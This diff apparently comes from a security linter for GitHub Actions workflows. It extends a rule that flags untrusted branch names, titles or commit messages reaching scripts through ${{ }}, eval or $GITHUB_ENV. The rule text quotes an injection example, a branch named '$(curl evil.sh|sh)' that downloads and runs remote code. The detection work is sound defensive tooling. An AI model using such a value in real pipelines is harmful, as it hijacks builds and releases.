@@ -20,9 +20,9 @@ var _ = register(finding.Rule{
 	Severity: finding.Error,
 	Waivable: true,
 	Title:    "Text that others choose becomes part of a script on the path to the index",
-	Why: "A branch name, title or commit message that ${{ … }} puts into a script runs as commands where your release is made. A branch called $(curl evil.sh|sh), or a title like that, " +
+	Why: "A branch name, title or commit message that gets into a script, by ${{ … }} or by eval, runs as commands where your release is made. A branch called $(curl evil.sh|sh), or a title like that, " +
 		"is a command there: this is how a project's releases were taken over in December 2024. It is an error where anybody with an account " +
-		"can choose the text, and a warning where only people who may push or start runs can. Handed over as an environment variable, the text stays text.",
+		"can choose the text, and a warning where only people who may push or start runs can. Handed over as an environment variable, the text stays text, as long as neither eval nor a shell's -c runs it.",
 	Bad:        "- run: git pull origin ${{ github.head_ref || github.ref }}",
 	Good:       "- run: git pull origin \"$BRANCH\"\n  env:\n    BRANCH: ${{ github.head_ref || github.ref }}",
 	References: []string{"PyPI: Supply-chain attack analysis: Ultralytics (2024-12-11)", "SSDF PW.5.1"},
@@ -61,6 +61,16 @@ func (a *audit) addTaints(rule *finding.Rule, sp *spot, s *graph.Step, found []t
 		expr.Dispatcher: "whoever may start or call the workflow",
 	}[worst.who]
 	script, hint := "its script", "hand the text over in env: and use the variable, in quotes, in the script"
+	if worst.does != "" {
+		f := a.at(rule, sp.job, s.File, worst.line, "use the variable in quotes, as a word of one command; where a text with line breaks has to go to $GITHUB_ENV, write NAME<<END with an END that is drawn at random",
+			"a step of job %q, which %s, %s; %s chooses the text of %q, and with it commands of the script; expected a text that cannot be code",
+			sp.job.Job.ID.Value, sp.part(), worst.does, who, worst.path)
+		if worst.who != expr.Outsider {
+			f.Severity = finding.Warning
+		}
+		a.add(sp.cap(f))
+		return
+	}
 	if worst.in != "" {
 		script = "what its action runs as a script (input " + worst.in + ")"
 		hint = "hand the action only text that no outsider can choose, or that a step before it has checked"
@@ -74,7 +84,9 @@ func (a *audit) addTaints(rule *finding.Rule, sp *spot, s *graph.Step, found []t
 	if worst.who != expr.Outsider {
 		f.Severity = finding.Warning
 	}
-	f.Fix = byVariables(a.source(s.File), s, found)
+	if !slices.ContainsFunc(found, func(t taint) bool { return t.does != "" }) {
+		f.Fix = byVariables(a.source(s.File), s, found)
+	}
 	a.add(sp.cap(f))
 }
 
